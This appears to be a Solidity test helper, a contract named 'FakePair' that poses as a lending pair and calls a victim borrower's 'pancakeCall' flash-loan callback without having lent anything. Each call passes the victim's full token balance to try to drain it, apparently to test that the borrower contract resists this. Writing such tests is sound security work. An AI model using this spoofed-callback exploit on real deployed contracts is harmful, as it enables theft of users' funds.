// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {CountingToken} from "../../invariants/market/CountingToken.sol";
import {PairBorrower} from "../controls/PairBorrower.sol";

/// @notice Calls back like a pair that has lent, once for each token, without having lent anything.
contract FakePair {
    address public token0;

    function attack(address victim, CountingToken[2] calldata loot) external {
        for (uint256 i = 0; i < loot.length; ++i) {
            token0 = address(loot[i]);
            uint256 amount = loot[i].balanceOf(victim);
            try PairBorrower(victim).pancakeCall(address(this), amount, 0, abi.encodePacked(uint112(amount))) {}
                catch {}
        }
    }
}
